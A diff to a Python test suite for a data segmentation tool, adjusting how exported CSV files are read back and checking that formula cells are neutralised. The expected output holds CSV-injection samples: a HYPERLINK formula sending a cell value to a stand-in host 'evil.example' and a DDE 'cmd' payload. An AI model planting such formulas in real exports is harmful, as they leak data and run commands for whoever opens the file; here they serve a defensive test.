@@ -28,7 +28,7 @@ import pandas as pd
 import pytest
 
 from segmentation import DataError, fit, labelled_csv, load_table, prepare
-from segmentation.export import neutralise
+from segmentation.export import csv_dialect, neutralise
 
 BAD = Path(__file__).resolve().parent / "data" / "bad"
 
@@ -352,7 +352,11 @@ def test_segmented_with_every_row_and_cell_kept(corpus, name):
     table = load_table(path)
     prepared = prepare(table)
     segmentation = fit(prepared, case.k)
-    out = pd.read_csv(io.BytesIO(labelled_csv(segmentation)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    # The download comes back in the file's own separator and encoding.
+    sep, _, encoding = csv_dialect(segmentation.prepared.table)
+    out = pd.read_csv(
+        io.BytesIO(labelled_csv(segmentation)), sep=sep, dtype=str, keep_default_na=False, encoding=encoding
+    )
 
     # Every row, in order; the typed view aligned with the raw one.
     assert table.n_rows == len(out) == case.rows
@@ -411,7 +415,11 @@ def _reference_cells(data: bytes, case: Segmented) -> tuple[list[str], list[list
 
 def test_formula_cells_are_neutralised_and_negative_numbers_kept(corpus):
     segmentation = fit(prepare(load_table(corpus / "formula_cells.csv")), 2)
-    out = pd.read_csv(io.BytesIO(labelled_csv(segmentation)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    # The download comes back in the file's own separator and encoding.
+    sep, _, encoding = csv_dialect(segmentation.prepared.table)
+    out = pd.read_csv(
+        io.BytesIO(labelled_csv(segmentation)), sep=sep, dtype=str, keep_default_na=False, encoding=encoding
+    )
     assert out["Website"].tolist() == [
         '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
         "'+cmd|' /C calc'!A0",
